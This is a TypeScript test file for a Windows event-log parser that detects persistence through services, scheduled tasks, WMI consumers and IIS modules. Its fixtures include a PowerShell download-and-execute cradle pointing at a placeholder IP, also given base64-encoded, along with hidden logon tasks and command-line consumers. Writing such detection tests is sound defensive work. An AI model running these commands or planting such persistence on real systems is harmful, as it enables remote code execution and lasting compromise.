import assert from 'node:assert/strict'
import { test } from 'node:test'
import type { FieldValue } from '../../../src/model/event.ts'
import { tellsOfSetting } from '../../../src/parsers/windows-events/service-and-task-events.ts'
import { WindowsForm, windowsEvent } from '../../../src/parsers/windows-events/event.ts'

const SECURITY = 'Security'
const WMI = 'Microsoft-Windows-WMI-Activity/Operational'
const IIS = 'Microsoft-IIS-Configuration/Operational'
const SYSMON = 'Microsoft-Windows-Sysmon/Operational'
const code = 'iex (iwr http://192.0.2.10/a).Content'
const encoded = Buffer.from(code, 'utf16le').toString('base64')

const xml = (command: string, args: string): string =>
  `<?xml version="1.0" encoding="UTF-16"?>\r\n<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task"><RegistrationInfo><Author>CONTOSO\\admin</Author></RegistrationInfo><Triggers><LogonTrigger /></Triggers><Settings><Hidden>true</Hidden></Settings><Actions><Exec><Command>${command}</Command><Arguments>${args}</Arguments></Exec></Actions></Task>`

const event = (channel: string, eventId: number, data: Readonly<Record<string, FieldValue>>) =>
  windowsEvent(
    {
      system: { channel, eventId, provider: null, computer: 'MAIL01.contoso.example' },
      data: Object.entries(data),
      when: { time: 0, basis: 'format', text: null },
    },
    '',
    { path: 'sample', offset: 0, length: 0 },
  )

const rows: readonly {
  readonly what: string
  readonly from: readonly [string, number, Readonly<Record<string, FieldValue>>]
  readonly service: string | null
  readonly target?: string
  readonly fields?: Readonly<Record<string, FieldValue>>
}[] = [
  {
    what: 'a service that the service manager installed',
    from: ['System', 7045, { ServiceName: 'sample', ImagePath: `powershell -e ${encoded}` }],
    service: 'service',
    target: 'sample',
    fields: { KnownPlace: 'true', DecodedCommand: code },
  },
  {
    what: 'a service that the audit saw',
    from: [SECURITY, 4697, { ServiceName: 'sample', ServiceFileName: 'C:\\Users\\Public\\a.exe' }],
    service: 'service',
    target: 'sample',
    fields: { ImagePath: 'C:\\Users\\Public\\a.exe', KnownPlace: 'false' },
  },
  {
    what: 'the program of a service in its key',
    from: [
      SYSMON,
      13,
      {
        TargetObject: 'HKLM\\System\\CurrentControlSet\\Services\\sample\\ImagePath',
        Details: 'C:\\Users\\Public\\a.exe',
      },
    ],
    service: 'service',
    target: 'sample',
    fields: { ServiceName: 'sample', ImagePath: 'C:\\Users\\Public\\a.exe', KnownPlace: 'false' },
  },
  {
    what: 'the start of a service in its key',
    from: [
      SYSMON,
      13,
      { TargetObject: 'HKLM\\System\\CurrentControlSet\\Services\\sample\\Start', Details: 'DWORD (0x00000002)' },
    ],
    service: null,
  },
  {
    what: 'a task that was made',
    from: [SECURITY, 4698, { TaskName: '\\sample', TaskContent: xml('C:\\Users\\Public\\a.exe', '-k') }],
    service: 'task',
    target: '\\sample',
    fields: {
      CommandLine: 'C:\\Users\\Public\\a.exe -k',
      Image: 'C:\\Users\\Public\\a.exe',
      Author: 'CONTOSO\\admin',
      TriggerTypes: 'LogonTrigger',
      Hidden: 'true',
      KnownPlace: 'false',
    },
  },
  {
    what: 'a task that was changed',
    from: [SECURITY, 4702, { TaskName: '\\sample', TaskContentNew: xml('powershell', `-enc ${encoded}`) }],
    service: 'task',
    fields: { DecodedCommand: code },
  },
  {
    what: 'a task whose text is no XML',
    from: [SECURITY, 4698, { TaskName: '\\sample', TaskContent: '<Task><Actions>' }],
    service: null,
  },
  { what: 'a service without a program', from: ['System', 7045, { ServiceName: 'sample' }], service: null },
  { what: 'another event of the same log', from: ['System', 7036, { param1: 'sample' }], service: null },
  {
    what: 'a consumer with a command line',
    from: [SYSMON, 20, { Operation: 'Created', Type: 'Command Line', Name: ' "sample"', Destination: ' "cmd /c a"' }],
    service: 'startup',
    target: 'sample',
    fields: { Category: 'WMI event consumer', Command: 'cmd /c a' },
  },
  {
    what: 'a consumer that was removed',
    from: [SYSMON, 20, { Operation: 'Deleted', Type: 'Command Line', Name: ' "sample"', Destination: ' "cmd /c a"' }],
    service: null,
  },
  {
    what: 'a module of IIS',
    from: [
      IIS,
      29,
      {
        Configuration: '/system.webServer/globalModules/add[@name="sample"]/@image',
        NewValue: 'C:\\Windows\\Temp\\a.dll',
      },
    ],
    service: 'iis-config',
    target: 'sample',
    fields: { Element: 'globalModule', Module: 'sample', Image: 'C:\\Windows\\Temp\\a.dll', Known: 'false' },
  },
  {
    what: 'the folder of a virtual path of IIS',
    from: [
      IIS,
      29,
      {
        PhysicalPath: 'C:\\config\\applicationHost.config',
        Configuration: '/x/site[@name="a"]/application[@path="/b"]/virtualDirectory[@path="/"]/@physicalPath',
        NewValue: 'C:\\Users\\Public',
      },
    ],
    service: 'iis-config',
    fields: { PhysicalPath: 'C:\\Users\\Public', EventData_PhysicalPath: 'C:\\config\\applicationHost.config' },
  },
  {
    what: 'another setting of IIS',
    from: [IIS, 29, { Configuration: '/x/siteDefaults/logFile/@directory', NewValue: 'C:\\Users\\Public' }],
    service: null,
  },
  {
    what: 'a consumer that only writes to the event log',
    from: [WMI, 5861, { CONSUMER: 'NTEventLogEventConsumer="SCM"', PossibleCause: 'instance of X { Name="SCM"; };' }],
    service: null,
  },
  {
    what: 'a consumer bound to a filter, with its text in MOF',
    from: [
      WMI,
      5861,
      {
        CONSUMER: 'CommandLineEventConsumer="sample"',
        PossibleCause: 'x { CommandLineTemplate = "\\"C:\\\\Users\\\\Public\\\\a.exe\\" -k"; Name="sample"; };',
      },
    ],
    service: 'startup',
    target: 'sample',
    fields: { Command: '"C:\\Users\\Public\\a.exe" -k', KnownPlace: 'false' },
  },
]

for (const { what, from, service, target, fields } of rows) {
  test(`${what} is ${service === null ? 'no setting' : `asked of the rules for a ${service}`}`, () => {
    const got = event(...from)
    const own = got.sources.filter(({ product }) => product === 'postern').map((source) => source.service)
    assert.deepEqual(own, service === null ? [] : [service])
    if (target !== undefined) assert.equal(got.target, target)
    for (const [name, value] of Object.entries(fields ?? {})) assert.deepEqual(got.fields[name], value, name)
  })
}

test('such events are never read by their form alone', () => {
  for (const [channel, eventId] of [
    ['System', 7045],
    [SECURITY, 4697],
    [SECURITY, 4698],
    [SECURITY, 4702],
    [SYSMON, 20],
    [WMI, 5861],
    [IIS, 29],
  ] as const) {
    assert.ok(tellsOfSetting(channel, eventId))
    assert.equal(WindowsForm.of({ channel, eventId, provider: null, more: [], data: ['a'] }), null)
  }
  assert.ok(!tellsOfSetting('System', 7036) && !tellsOfSetting(null, 7045))
})
